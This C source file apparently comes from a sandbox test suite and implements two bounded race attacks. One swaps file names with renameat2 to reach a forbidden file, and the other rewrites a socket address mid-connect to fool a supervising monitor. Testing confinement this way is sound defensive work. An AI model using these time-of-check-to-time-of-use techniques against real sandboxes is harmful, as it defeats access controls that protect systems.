/* Races: one thread changes what a name means while another uses it. All are bounded. */
#include "attack.h"

#include <pthread.h>
#include <sched.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

#define ROUNDS 20000

struct swap {
    const char *one, *two;
    volatile int running, stop;
};

static void *swap_names(void *arg)
{
    struct swap *swap = arg;

    swap->running = 1;
    while (!swap->stop)
        syscall(SYS_renameat2, AT_FDCWD, swap->one, AT_FDCWD, swap->two, RENAME_EXCHANGE);
    return NULL;
}

/*
 * race_write HONEST LIAR INODE [TAIL]: HONEST and LIAR (a link to the forbidden
 * thing) change places while HONEST/TAIL is opened for writing. The opened
 * file's inode tells whether the forbidden one was reached.
 */
ATTACK(race_write)
{
    struct swap swap = {.one = operand(argc, argv, 1), .two = operand(argc, argv, 2)};
    unsigned long forbidden = number(operand(argc, argv, 3));
    char path[4096];
    pthread_t thread;
    int reached = 0, last = 0;

    snprintf(path, sizeof path, "%s%s", swap.one, argc > 4 ? argv[4] : "");
    if (pthread_create(&thread, NULL, swap_names, &swap))
        broken("no thread");
    while (!swap.running)
        sched_yield();
    for (int i = 0; i < ROUNDS && !reached; i++) {
        struct stat is;
        int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);

        if (fd < 0) {
            if (errno != ENOENT)
                last = errno;
            continue;
        }
        reached = fstat(fd, &is) == 0 && is.st_ino == forbidden;
        if (reached && write(fd, "escaped\n", 8) < 0)
            last = errno;
        close(fd);
    }
    swap.stop = 1;
    pthread_join(thread, NULL);
    if (reached)
        escaped("reached inode %lu through %s", forbidden, path);
    else if (last) {
        errno = last;
        refused("%d races on %s", ROUNDS, path);
    } else
        nothing("absent", "%d races on %s never met the forbidden file", ROUNDS, path);
}

struct address {
    struct sockaddr_un *where;
    const char *one, *two;
    volatile int running, stop;
};

static void *swap_address(void *arg)
{
    struct address *address = arg;

    address->running = 1;
    while (!address->stop) {
        strcpy(address->where->sun_path, address->one);
        strcpy(address->where->sun_path, address->two);
    }
    return NULL;
}

/*
 * race_connect HONEST FORBIDDEN: connects to a socket of one's own while another
 * thread rewrites the address in memory: a supervisor that reads the argument,
 * approves it and lets the call continue is fooled. A half-written path names
 * nothing, and counts as nothing.
 */
ATTACK(race_connect)
{
    struct sockaddr_un where = {.sun_family = AF_UNIX};
    struct address address = {&where, operand(argc, argv, 1), operand(argc, argv, 2), 0, 0};
    int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    struct sockaddr_un mine = {.sun_family = AF_UNIX};
    pthread_t thread;
    int last = 0;

    if (strlen(address.one) >= sizeof mine.sun_path || strlen(address.two) >= sizeof mine.sun_path)
        broken("path too long for a socket");
    strcpy(mine.sun_path, address.one);
    strcpy(where.sun_path, address.one);
    if (listener < 0 || bind(listener, (void *)&mine, sizeof mine) < 0 || listen(listener, 64) < 0)
        refused("listen on %s", address.one);
    if (pthread_create(&thread, NULL, swap_address, &address))
        broken("no thread");
    while (!address.running)
        sched_yield();
    /* By the clock: on a busy machine the two threads meet but now and then. */
    for (time_t until = time(NULL) + 2; time(NULL) < until;) {
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

        if (fd < 0) {
            last = errno;
            break;
        }
        if (connect(fd, (void *)&where, sizeof where) < 0) {
            if (errno != EAGAIN && errno != ENOENT)
                last = errno;
        } else {
            /* Whose it is, the other side's listener knows: ours is never accepted from. */
            struct sockaddr_un peer = {0};
            socklen_t length = sizeof peer;

            if (getpeername(fd, (void *)&peer, &length) == 0 &&
                strcmp(peer.sun_path, address.two) == 0) {
                escaped("connected to %s", peer.sun_path);
                break;
            }
        }
        close(fd);
        /* Keep our own queue from filling up. */
        int taken = accept4(listener, NULL, NULL, SOCK_CLOEXEC | SOCK_NONBLOCK);
        if (taken >= 0)
            close(taken);
    }
    address.stop = 1;
    pthread_join(thread, NULL);
    errno = last ? last : ENOENT;
    refused("races on the address %s", address.two);
}
